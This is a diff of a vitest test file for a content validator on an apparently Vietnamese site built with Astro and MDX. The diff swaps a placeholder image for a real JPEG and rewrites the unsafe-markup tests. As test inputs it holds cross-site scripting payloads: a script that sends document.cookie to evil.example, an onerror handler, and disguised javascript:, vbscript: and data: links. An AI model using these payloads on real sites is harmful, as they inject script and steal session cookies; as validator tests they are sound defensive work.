@@ -1,7 +1,8 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import sharp from 'sharp';
+import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { formatProblem, validateContent } from '../../src/content/validate.ts';
 
 const good = `---
@@ -55,10 +56,17 @@ const write = (rel: string, text: string) => {
 };
 const messages = async () => (await validateContent(root)).map(formatProblem);
 
+/** A real JPEG: the build reads a picture's bytes, not its name. */
+let jpeg: Buffer;
+beforeAll(async () => {
+  jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#2a7' } }).jpeg().toBuffer();
+});
+
 beforeEach(() => {
   base = mkdtempSync(path.join(tmpdir(), 'project-'));
   root = path.join(base, 'content');
-  write('_media/pic.jpg', 'not really a jpeg, only its presence is checked');
+  mkdirSync(path.join(root, '_media'), { recursive: true });
+  writeFileSync(path.join(root, '_media/pic.jpg'), jpeg);
   write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', good);
 });
 afterEach(() => rmSync(base, { recursive: true, force: true }));
@@ -134,7 +142,8 @@ Body.
     const all = (await messages()).join('\n');
     expect(all).toMatch(/festivals\/vi\/a\.mdx \[locale: vi\] field "dateRule\.start": is not a real calendar date/);
     expect(all).toMatch(/festivals\/vi\/b\.mdx .*field "dateRule\.start": must be a date in the form "YYYY-MM-DD"/);
-    expect(all).toMatch(/festivals\/vi\/c\.mdx .*field "dateRule\.start": .*unquoted date/);
+    // YAML 1.2 reads an unquoted date as text, so it is as good as a quoted one.
+    expect(all).not.toMatch(/festivals\/vi\/c\.mdx.*dateRule/);
   });
 
   test('NFD-encoded Vietnamese is rejected, naming the field', async () => {
@@ -149,11 +158,9 @@ Body.
     expect(await messages()).toEqual([expect.stringMatching(/field "body": text is NFD-decomposed/)]);
   });
 
-  test('broken MDX reports the line in the file', async () => {
-    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', `${good}\n<Gallery images={[1, 2}\n`);
-    const all = await messages();
-    expect(all).toHaveLength(1);
-    expect(all[0]).toMatch(/field "body": broken MDX at line \d+/);
+  test('MDX syntax is ordinary text: bodies are Markdown, so nothing there can break the build', async () => {
+    write('destinations/vi/vuon-quoc-gia-tram-chim.mdx', `${good}\n<Gallery images={[1, 2}\n\n{process.env.SECRET} and Giá > 1 tỷ < 2 tỷ\n`);
+    expect(await messages()).toEqual([]);
   });
 
   test('duplicate slugs in one locale are rejected', async () => {
@@ -210,7 +217,7 @@ Text.
     expect(found.join('\n')).not.toMatch(/coordinates|district/);
   });
 
-  describe('script and code in content', () => {
+  describe('markup that may not be published', () => {
     const file = 'destinations/vi/vuon-quoc-gia-tram-chim.mdx';
     // `good` ends on line 20; after a blank line, the added body text starts on line 22.
     const withBody = (body: string) => write(file, `${good}\n${body}\n`);
@@ -218,35 +225,25 @@ Text.
     test('a <script> element in the body is reported with its line', async () => {
       withBody('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
       expect(await messages()).toEqual([
-        expect.stringContaining(
-          'destinations/vi/vuon-quoc-gia-tram-chim.mdx [locale: vi] field "body": unsafe content at line 22: a <script> element; content may not contain script',
-        ),
-      ]);
+        'destinations/vi/vuon-quoc-gia-tram-chim.mdx [locale: vi] field "body": at line 22: the HTML element <script> is not allowed in content',
+      ].map((m) => expect.stringContaining(m)));
     });
 
-    test('an inline event handler is reported, even when the MDX does not parse', async () => {
+    test('an inline event handler is named before the element it sits on', async () => {
       withBody('<img src=x onerror=alert(1)>');
-      const all = await messages();
-      expect(all).toHaveLength(2);
-      expect(all[0]).toMatch(/\[locale: vi\] field "body": broken MDX at line 22/);
-      expect(all[1]).toMatch(/\[locale: vi\] field "body": unsafe content at line 22: an inline event handler "onerror" on <img>/);
+      expect(await messages()).toEqual([expect.stringMatching(/\[locale: vi\] field "body": at line 22: the event-handler attribute "onerror" on <img> is not allowed/)]);
     });
 
-    test('JSX event handlers are reported', async () => {
-      withBody('<a href="/" onClick={() => alert(1)}>Trang chủ</a>');
-      expect(await messages()).toEqual([expect.stringMatching(/field "body": unsafe content at line 22: an inline event handler "onClick" on <a>/)]);
-    });
-
-    test('javascript: links in the body are reported, however disguised', async () => {
-      for (const link of ['[Bản đồ](javascript:alert(1))', '[Bản đồ](JaVa&#09;ScRiPt:alert(1))', '[Bản đồ](&#106;avascript:alert(1))', '<a href="vbscript:x">x</a>', '![Ảnh](data:text/html,x)']) {
+    test('javascript:, vbscript: and data: addresses are refused however disguised', async () => {
+      for (const link of ['[Bản đồ](javascript:alert(1))', '[Bản đồ](JaVa&#09;ScRiPt:alert(1))', '[Bản đồ](&#106;avascript:alert(1))', '<a href="vbscript:x">x</a>', '<a href="&#x6A;avascript:x">x</a>', '[Tải](data:text/html,x)']) {
         withBody(link);
         const all = await messages();
         expect(all, link).toHaveLength(1);
-        expect(all[0], link).toMatch(/\[locale: vi\] field "body": unsafe content at line 22: a "(javascript:|vbscript:|data:text\/html)" URL/);
+        expect(all[0], link).toMatch(/\[locale: vi\] field "body": (at line 22: )?the address "[^"]*(script|data)[^"]*" \(href on <a>\) is not allowed/i);
       }
     });
 
-    test('a javascript: URL in a frontmatter URL field is reported with the field', async () => {
+    test('a javascript: address in a link field is reported with the field', async () => {
       write(
         'products/vi/tra-sen.mdx',
         `---
@@ -267,30 +264,22 @@ Nội dung.
 `,
       );
       const all = (await messages()).join('\n');
-      expect(all).toMatch(/products\/vi\/tra-sen\.mdx \[locale: vi\] field "producer\.website": unsafe content: a "javascript:" URL/);
+      expect(all).toMatch(/products\/vi\/tra-sen\.mdx \[locale: vi\] field "producer\.website": must be a web address starting with https:\/\/ or http:\/\//);
     });
 
-    test('script in any frontmatter string is reported with the field', async () => {
-      write(file, good.replace('alt: Sếu đầu đỏ trên đồng cỏ năng', 'alt: "Sếu <img src=x onerror=alert(1)>"').replace('title: Vườn quốc gia Tràm Chim', 'title: <SCRIPT>alert(1)</SCRIPT>'));
-      const all = await messages();
-      expect(all).toContainEqual(expect.stringMatching(/\[locale: vi\] field "title": unsafe content: a <script> element/));
-      expect(all).toContainEqual(expect.stringMatching(/\[locale: vi\] field "images\[0\]\.alt": unsafe content: an inline event handler "onerror"/));
-    });
-
-    test('import/export statements and {…} expressions in an MDX body are code', async () => {
-      withBody("import Secret from '../../../src/config/site.ts';\n\n{Secret.url}");
-      const all = await messages();
-      expect(all).toHaveLength(2);
-      expect(all[0]).toMatch(/field "body": unsafe content at line 22: an import\/export statement is JavaScript; content may not contain code/);
-      expect(all[1]).toMatch(/field "body": unsafe content at line 24: a "\{…\}" expression is JavaScript/);
+    test('markup in frontmatter text is text: Astro escapes it, so it builds', async () => {
+      write(file, good.replace('alt: Sếu đầu đỏ trên đồng cỏ năng', 'alt: "Sếu <img src=x onerror=alert(1)> > 1 tỷ"').replace('title: Vườn quốc gia Tràm Chim', 'title: <SCRIPT>alert(1)</SCRIPT> & "Tràm Chim"'));
+      expect(await messages()).toEqual([]);
     });
 
     test('raw HTML in a .md file is checked too', async () => {
-      write('destinations/en/vuon-quoc-gia-tram-chim.md', good.replace('Nội dung **đúng**.', '<div>\n<script>alert(1)</script>\n</div>'));
-      expect(await messages()).toEqual([expect.stringMatching(/destinations\/en\/vuon-quoc-gia-tram-chim\.md \[locale: en\] field "body": unsafe content at line 21: a <script> element/)]);
+      write('destinations/vi/vuon-quoc-gia-tram-chim.md', good.replace('Nội dung **đúng**.', '<div>\n<script>alert(1)</script>\n</div>'));
+      write(file, good);
+      const all = await messages();
+      expect(all).toContainEqual(expect.stringMatching(/destinations\/vi\/vuon-quoc-gia-tram-chim\.md \[locale: vi\] field "body": at line 21: the HTML element <script> is not allowed/));
     });
 
-    test('prose about JavaScript, code samples and escaped markup pass', async () => {
+    test('prose about JavaScript, code samples, escaped markup and inline tags editors use pass', async () => {
       withBody(
         [
           'JavaScript: trang web dùng kịch bản (script) để vẽ bản đồ; javascript:void(0) chỉ là chữ.',
@@ -302,6 +291,8 @@ Nội dung.
           '```',
           '',
           'CMS ghi \\<script> và \\{ngoặc\\} như chữ thường; [trang](https://example.org/javascript/).',
+          '',
+          'Diện tích 50 m<sup>2</sup>, CO<sub>2</sub>, <abbr title="Khu công nghiệp">KCN</abbr> <span lang="en">Sa Dec</span>.',
         ].join('\n'),
       );
       expect(await messages()).toEqual([]);
